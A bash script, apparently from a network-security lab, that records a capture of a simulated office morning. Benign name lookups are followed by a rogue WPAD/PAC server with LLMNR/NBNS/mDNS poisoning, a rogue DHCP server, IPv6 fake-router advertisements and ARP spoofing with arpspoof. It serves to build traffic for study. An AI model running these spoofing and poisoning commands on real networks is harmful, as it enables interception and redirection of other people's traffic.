#!/usr/bin/env bash
# Records captures/tour.pcapng, README's first run: a small office morning with benign clients and one attack of each lure.
# Packages: those of names.sh, dhcp.sh, pac.sh and wire.sh.
. "$(dirname "$0")/lab.sh"

windows() { try "$1" curl -s -m 3 -A 'WinHttp-Autoproxy-Service/5.1' -H "Host: $2" "$3"; }
ip_of() { on "$1" ip -4 -br addr show eth0 | awk '{print $3}' | cut -d/ -f1; }

scene_tour() {
  # The office: router with DHCP, DNS and IPv6, a web server outside, a file server, a printer, three clients.
  lab_host gw 3c:52:82:11:00:01 192.168.20.1/24 2001:db8:20::1/64 198.51.100.80/32
  lab_host fs 00:11:32:aa:00:05 192.168.20.5/24
  lab_host printer 00:80:77:bb:00:07 192.168.20.7/24
  for i in 1 2 3; do lab_host pc$i 3c:52:82:11:01:0$i; done
  lab_host guest 00:0c:29:6e:00:66 192.168.20.166/24
  lab_host box dc:a6:32:5d:00:77 192.168.20.177/24
  lab_host tablet 48:2c:a0:7e:00:88 192.168.20.188/24
  on gw sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
  dns_dhcp gw --enable-ra --dhcp-range=192.168.20.100,192.168.20.120,1h --dhcp-range=2001:db8:20::,ra-stateless --domain=office.example \
    --address=/intranet.office.example/192.168.20.5 --address=/www.example.org/198.51.100.80 --address=/office.example/ --ra-param=eth0,5,1800
  mkdir -p "$lab_tmp/www"; echo '<html><body>News</body></html>' >"$lab_tmp/www/index.html"; web gw "$lab_tmp/www"
  record_start

  # Morning: everybody comes in, finds names and pages, and looks for a proxy that does not exist.
  netbios fs FILESRV; mdns printer printer
  for i in 1 2 3; do
    lease pc$i
    try pc$i dig +tries=1 +time=1 @192.168.20.1 intranet.office.example
    try pc$i dig +tries=1 +time=1 @192.168.20.1 wpad.office.example
    try pc$i python3 "$make_dir/ask.py" llmnr wpad
    try pc$i curl -s -m 3 http://198.51.100.80/
    pause 0.5
  done
  try pc1 nmblookup -s /dev/null -B 192.168.20.255 FILESRV
  try pc2 python3 "$make_dir/ask.py" mdns printer.local
  try pc3 python3 "$make_dir/ask.py" nbns WPAD

  # A guest's laptop answers for every name, and serves the PAC.
  pac "$lab_tmp/rogue/wpad.dat" 192.168.20.166:3128; web guest "$lab_tmp/rogue"
  daemon guest python3 "$make_dir/poisoner.py" 192.168.20.166
  pause 1
  try pc1 python3 "$make_dir/ask.py" llmnr wpad filesrvv
  windows pc1 wpad http://192.168.20.166/wpad.dat
  try pc2 python3 "$make_dir/ask.py" nbns WPAD PRINTSRV
  windows pc2 wpad http://192.168.20.166/wpad.dat
  try pc3 python3 "$make_dir/ask.py" mdns wpad.local

  # A box under a desk hands out addresses and a proxy configuration, and calls itself IPv6 resolver and router.
  dns_dhcp box --port=0 --dhcp-range=192.168.20.200,192.168.20.210,2m --dhcp-option=3,192.168.20.1 --dhcp-option=6,192.168.20.177 \
    --dhcp-option=252,http://192.168.20.177/wpad.dat
  pac "$lab_tmp/box/wpad.dat" 192.168.20.177:8080; web box "$lab_tmp/box"
  pause 1
  lease pc3
  windows pc3 192.168.20.177 http://192.168.20.177/wpad.dat
  daemon box atk6-fake_router26 -A 2001:db8:bad::/64 -D fe80::dea6:32ff:fe5d:77 eth0

  # A tablet places itself between a client and the router, and answers its DNS questions.
  on tablet sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
  on tablet ip route add default via 192.168.20.1
  local victim; victim=$(ip_of pc2 | head -1)
  try tablet ping -c1 -W1 "$victim"
  daemon tablet arpspoof -i eth0 -t "$victim" 192.168.20.1
  pause 2
  for _ in 1 2 3; do try pc2 curl -s -m 3 http://198.51.100.80/; pause 0.5; done
  pause 1
}

run_scenes . tour
